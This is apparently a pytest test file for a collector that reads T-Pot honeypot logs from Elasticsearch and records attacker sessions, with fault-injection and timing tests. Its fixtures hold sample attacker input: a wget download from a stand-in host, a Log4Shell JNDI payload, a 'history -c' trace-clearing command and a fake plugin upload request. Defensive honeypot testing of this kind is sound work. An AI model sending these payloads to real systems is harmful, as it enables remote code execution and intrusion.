"""What attackers did in the sessions that brought files, read beside the captures and never before them."""

import json
import random

import pytest
import tpot_day
import tpot_documents
from driving import captures, move_clock, pump, read_all
from faultproxy import Fault, FaultProxy
from harness import wait_until

STORY = "request_cache=false.*hits.hits._source"


class Attack:
    """A session of Cowrie that brings a file, as T-Pot's documents."""

    def __init__(self, maker, at, name, refused=2, commands=("uname -a", "wget http://198.51.100.7/x"), closed=True):
        self.maker, self.at, self.documents = maker, at, []
        self.capture = maker.cowrie(at + 5, tpot_day.sha256(name), "wget")
        self.session = self.capture["session"]
        self.event(0, "session.connect")
        self.event(0.1, "client.version", version="SSH-2.0-Go")
        self.event(0.2, "client.kex", hassh="0df0d56bb50c6b2426d8d40234bf1826")
        for n in range(refused):
            self.event(1 + n / 10, "login.failed", username="admin", password=f"secret-{n}")
        self.event(2, "login.success", username="root", password="secret-last")
        for n, command in enumerate(commands):
            self.event(3 + n / 1000, "command.input", input=command)
        self.documents.append((tpot_day.index_of(at + 5), None, self.capture))
        if closed:
            self.close()

    def event(self, after, eventid, **fields):
        document = {"@timestamp": tpot_documents.instant(self.at + after), "type": "Cowrie", "session": self.session,
                    "eventid": f"cowrie.{eventid}", "src_ip": "198.51.100.9", "t-pot_hostname": "hive-one", **fields}
        self.documents.append((tpot_day.index_of(self.at + after), None, document))
        return self.documents[-1]

    def close(self):
        return self.event(9, "session.closed", duration="9.0")


def story(home, session):
    rows = home.sql("SELECT * FROM session WHERE session = ?", session) if home.has_tables() else []
    return rows[0] if rows else {"told_at": None, "closed": 0, "typed": None}


@pytest.fixture
def maker():
    return tpot_documents.Maker(random.Random(41))


def test_each_honeypot(collecting_each, each_engine, maker):
    """Cowrie's login and commands, Adbhoney's commands, H0neytr4p's request, Log4pot's exploit; also by --once."""
    at = collecting_each.clock() - 600
    attack = Attack(maker, at, "cowrie")
    opening, command, download = maker.adbhoney_download(at, tpot_day.sha256("adb"))
    trap = maker.h0neytr4p(at, tpot_day.md5("trap"))
    trap["header_user-agent"] = "python-requests/2.31"
    request, payload = maker.log4pot(at, tpot_day.sha256("log4pot"))
    exploit = {**request, "reason": "exploit", "payload": "${jndi:ldap://198.51.100.66/a}"}
    each_engine.bulk([*attack.documents, *((tpot_day.index_of(at), None, d) for d in (
        opening, command, download, trap, request, exploit, payload))])
    read_all(collecting_each, each_engine)
    told = {row["honeypot"]: row for row in collecting_each.sql("SELECT * FROM session")}
    assert set(told) == {"Cowrie", "Adbhoney", "H0neytr4p", "Log4pot"}
    cowrie = told["Cowrie"]
    assert (cowrie["user_name"], cowrie["tries"], cowrie["login"], cowrie["typed"], cowrie["closed"]) == (
        "root", 3, "password", 2, 1)
    assert json.loads(cowrie["commands"]) == ["uname -a", "wget http://198.51.100.7/x"]
    assert (cowrie["client"], cowrie["hassh"]) == ("SSH-2.0-Go", "0df0d56bb50c6b2426d8d40234bf1826")
    assert json.loads(told["Adbhoney"]["commands"]) == [command["input"]]
    assert (told["H0neytr4p"]["request"], told["H0neytr4p"]["client"]) == (
        "POST /wp-content/plugins/x/upload.php", "python-requests/2.31")
    assert told["Log4pot"]["request"] == "${jndi:ldap://198.51.100.66/a}"
    assert "secret" not in json.dumps(list(told.values()))


def test_session_that_goes_on(collecting, engine, maker):
    """What is typed after the capture, past midnight too, is learned later; then nothing more is asked."""
    midnight = collecting.clock() // 86400 * 86400
    collecting.set_clock(midnight + 30)
    attack = Attack(maker, midnight - 6, "open", closed=False)
    assert {index for index, _, _ in attack.documents} == {tpot_day.index_of(midnight - 6)}
    engine.bulk(attack.documents, refresh=True)
    program = collecting.start("collector")
    pump(collecting, engine, lambda: story(collecting, attack.session)["told_at"], "a first look")
    assert story(collecting, attack.session)["typed"] == 2 and not story(collecting, attack.session)["closed"]
    engine.bulk([attack.event(8, "command.input", input="history -c"), attack.close()], refresh=True)
    move_clock(collecting, 600)
    pump(collecting, engine, lambda: story(collecting, attack.session)["closed"], "its end")
    assert story(collecting, attack.session)["typed"] == 3 and story(collecting, attack.session)["look_at"] == 0
    assert program.stop() == 0


def test_failures_hold_no_capture_back(collecting, engine, maker):
    """Refused, cut and lost answers do not affect the captures, and the story is read in the end."""
    attack = Attack(maker, collecting.clock() - 600, "faults")
    engine.bulk(attack.documents, refresh=True)
    with FaultProxy(engine.url) as proxy:
        proxy.add(Fault("replace", path=STORY, status=503))
        proxy.add(Fault("cut", path=STORY, at=-1))
        proxy.add(Fault("lose", path=STORY))
        collecting.configure("collector", url=proxy.url)
        program = collecting.start("collector")
        pump(collecting, engine, lambda: collecting.has_tables() and captures(collecting), "the capture")
        assert story(collecting, attack.session)["told_at"] is None
        for n in range(3):
            wait_until(lambda n=n: program.log.count("commands of sessions") > n, what=f"failure {n}")
            assert collecting.one("SELECT count(*) FROM pause") == 0
            move_clock(collecting, 300 << n)
        pump(collecting, engine, lambda: story(collecting, attack.session)["closed"], "the story")
    assert program.stop() == 0


def test_a_slow_answer_holds_no_capture_back(collecting, engine, maker):
    """Captures are stored while the answer about earlier ones is on its way; with `stories = no` none is asked."""
    first = Attack(maker, collecting.clock() - 600, "first")
    second = Attack(maker, collecting.clock() - 590, "second")
    engine.bulk(first.documents, refresh=True)
    with FaultProxy(engine.url) as proxy:
        proxy.add(Fault("delay", path=STORY, seconds=9))
        collecting.configure("collector", url=proxy.url)
        program = collecting.start("collector")
        pump(collecting, engine, lambda: proxy.sent(path=STORY), "the question")
        engine.bulk(second.documents, refresh=True)
        pump(collecting, engine, lambda: len(captures(collecting)) == 2, "the second capture", 7)
        assert story(collecting, first.session)["told_at"] is None
        pump(collecting, engine, lambda: story(collecting, second.session)["closed"], "both stories")
        assert story(collecting, first.session)["closed"]
        assert program.stop() == 0
        asked = len(proxy.sent(path=STORY))
        third = Attack(maker, collecting.clock() - 60, "third")
        engine.bulk(third.documents, refresh=True)
        collecting.configure("collector", stories="no")
        read_all(collecting, engine)
        assert len(captures(collecting)) == 3 and len(proxy.sent(path=STORY)) == asked
        assert story(collecting, third.session)["told_at"] is None


def test_many_commands(collecting, engine, maker):
    """Too many documents for one answer are asked for in halves; of one endless session the first are kept."""
    at = collecting.clock() - 900
    attacks = [Attack(maker, at + n, f"many {n}", commands=[f"echo {n}"] * 2) for n in range(8)]
    for n, attack in enumerate(attacks):
        for k in range(1500 if n else 11000):
            attack.event(4 + k / 10000, "command.input", input=f"echo {k}")
        engine.bulk(attack.documents)
    engine.refresh()
    read_all(collecting, engine)
    told = {row["session"]: row for row in collecting.sql("SELECT * FROM session")}
    assert len(told) == 8
    for attack in attacks[1:]:
        assert told[attack.session]["typed"] == 1502 and told[attack.session]["closed"] == 1
    endless = told[attacks[0].session]
    assert endless["typed"] > 9000 and len(json.loads(endless["commands"])) == 50
